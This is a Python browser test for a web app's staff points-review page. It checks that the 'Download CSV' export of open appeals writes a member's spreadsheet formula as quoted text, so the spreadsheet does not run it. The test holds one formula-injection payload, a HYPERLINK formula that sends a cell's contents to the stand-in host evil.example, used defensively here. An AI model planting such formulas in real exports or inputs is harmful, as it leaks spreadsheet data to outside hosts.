"""A console table's "Download CSV" button in Chromium: an admin signed in with two-factor
downloads the open points appeals from the points review page; the file is the table's
rows, with a member's formula shown as text (quoted), not run by a spreadsheet."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest

from tests.web.conftest import (
    LiveServer,
    admin_with_two_factor,
    assert_accessible,
    register,
    screenshot,
    sign_in_with_code,
)

pytestmark = pytest.mark.browser

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'


async def test_an_admin_downloads_the_open_appeals_as_csv(
    context: Any, live_server: LiveServer, tmp_path: Path
) -> None:
    admin, secret, _ = await admin_with_two_factor(live_server)
    member = await register(live_server, name="Ayo Appellant")
    async with live_server.api() as client:
        login = await client.post(
            "/api/v1/login", json={"email": member.email, "password": member.password}
        )
        headers = {"Authorization": f"Bearer {login.json()['access_token']}"}
        for message in ("My streak bonus never arrived", FORMULA):
            filed = await client.post(
                "/api/v1/points/appeals", json={"message": message}, headers=headers
            )
            assert filed.status_code == 201, filed.text

    page = await context.new_page()
    await sign_in_with_code(page, live_server, admin, secret, "/staff/points")
    await page.get_by_text("My streak bonus never arrived").first.wait_for()
    await assert_accessible(page, "Points review with its Download CSV button")
    button = page.get_by_role("button", name="Download CSV of the open appeals")
    async with page.expect_download() as waiting:
        await button.click()
    download = await waiting.value
    saved = tmp_path / download.suggested_filename
    await download.save_as(saved)
    await page.get_by_text("Downloaded points-appeals.csv.").wait_for()
    await screenshot(page, "staff-points-download-csv")

    assert download.suggested_filename == "points-appeals.csv"
    rows = list(csv.DictReader(io.StringIO(saved.read_text(encoding="utf-8"))))
    assert sorted(r["message"] for r in rows) == sorted(
        ["My streak bonus never arrived", "'" + FORMULA]
    )
    assert {r["user_id"] for r in rows} == {str(member.id)}
    assert {r["status"] for r in rows} == {"open"}
